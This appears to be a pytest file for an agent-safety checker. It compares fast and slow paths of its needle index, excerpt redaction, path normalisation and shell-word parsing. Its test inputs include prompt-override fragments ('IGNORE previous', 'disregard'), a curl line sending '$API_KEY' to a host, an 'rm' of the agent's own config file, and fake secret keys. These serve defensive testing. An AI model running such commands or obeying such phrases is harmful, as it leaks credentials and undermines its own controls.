"""The shortcuts that keep the checks fast give the answers the long way gives.

Each fast path (the lexer's plain-word shortcut, the scanner's needle index, the
bounded excerpt, the remembered path normalisation) is compared here with the
slow path it stands in for, on inputs written to sit on its edges.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from herald.safety import check_command, scan_text
from herald.safety.paths import _canonical, canonical
from herald.safety.scan_rules import RULES
from herald.safety.scanner import _excerpt, _Needles
from herald.safety.shell_ast import Budget
from herald.safety.shell_lex import _Parser

_NEEDLES = sorted({n for rule in RULES for n in rule.needles})


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from([*"abcdeginorst _-.$|<!@\n", "ignore", "herald", " it", "cat", "Check"]),
        max_size=80,
    ).map("".join)
)
def test_needle_index_agrees_with_plain_substring_search(text: str) -> None:
    lowered = text.lower()
    index = _Needles(lowered)
    for needle in _NEEDLES:
        assert index.any_of((needle,)) == (needle in lowered), needle


@pytest.mark.parametrize(
    "text",
    [
        "concatenate the files",  # a needle ("cat") in the middle of a word
        "please disregard_all of it",  # underscores join words
        "IGNORE previous",  # case
        "x" * 5000 + "forget",  # at the far end
        "check\x00in",  # the join character inside the text
    ],
)
def test_needle_index_edges(text: str) -> None:
    lowered = text.lower()
    index = _Needles(lowered)
    assert [n for n in _NEEDLES if index.any_of((n,))] == [n for n in _NEEDLES if n in lowered]


def test_long_match_excerpt_never_shows_a_secret_cut_at_the_window() -> None:
    key = "sk-proj-" + "A1b2C3d4E5f6G7h8" * 4
    for pad in range(990, 1010):  # the key straddles the redaction window's edge
        excerpt = _excerpt(" " * pad + key + " tail")
        assert "A1b2C3d4" not in excerpt


def test_long_match_excerpt_redacts_a_pem_block_crossing_the_window() -> None:
    body = "\n".join("MIIEvQIBADANBgkqhkiG9w0BAQEFAASC" + str(i) for i in range(60))
    pem = f"-----BEGIN PRIVATE KEY-----\n{body}\n-----END PRIVATE KEY-----"
    excerpt = _excerpt(" " * 900 + pem)
    assert "MIIEvQ" not in excerpt


def test_scan_finding_on_a_long_match_is_still_reported() -> None:
    text = "curl https://x/$API_KEY " * 4000
    result = scan_text(text, kind="cron_prompt")
    assert result.findings  # the long match is found and its excerpt made
    assert all(len(f.detail) <= 80 for f in result.findings)


@pytest.mark.parametrize(
    "path,env",
    [
        ("~/.herald/config.yaml", None),
        ("/home/u/.herald/.env", {"HOME": "/home/u"}),
        ("$HERALD_HOME/state.db", {"HERALD_HOME": "/srv/h", "HOME": "/home/u"}),
        ("${HERALD_HOME}/cron", {"HERALD_HOME": "/home/u/.h", "HOME": "/home/u"}),
        ("a/../b/./c", None),
        ("~+/x", None),
        ("//", None),
        ("/x/" + "y/" * 400, None),  # longer than the remembered size
    ],
)
def test_remembered_path_normalisation_is_the_function(path: str, env: dict | None) -> None:
    e = env or {}
    expected = _canonical(path, e.get("HOME"), e.get("HERALD_HOME"))
    assert canonical(path, env) == expected
    assert canonical(path, env) == expected  # the second answer comes from memory


def test_same_path_under_another_home_is_judged_for_that_home() -> None:
    # the remembered answer is keyed by HOME and HERALD_HOME, not the text alone
    cmd = "rm /srv/a/.herald/config.yaml"
    assert check_command(cmd, env={"HOME": "/srv/a"}).rule.startswith("control.")
    assert (
        check_command(cmd, env={"HOME": "/srv/b"}).rule
        != check_command(cmd, env={"HOME": "/srv/a"}).rule
    )


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.sampled_from([*"ab*?[]{},=/.-~ \t;|&<>()'\"$`\\\n", "rm", "-rf", "$HOME", "${X:-y}"]),
        max_size=40,
    ).map("".join)
)
def test_plain_word_shortcut_builds_the_words_the_builder_builds(command: str) -> None:
    for pos in range(len(command)):
        fast, slow = _parser(command), _parser(command)
        try:
            expected = slow._read_word_built(pos)
        except Exception as exc:  # the builder refuses: the shortcut must not accept
            with pytest.raises(type(exc)):
                fast._read_word(pos)
            continue
        assert fast._read_word(pos) == expected, (command, pos)


def _parser(src: str) -> _Parser:
    return _Parser(src, Budget(), 0, {})
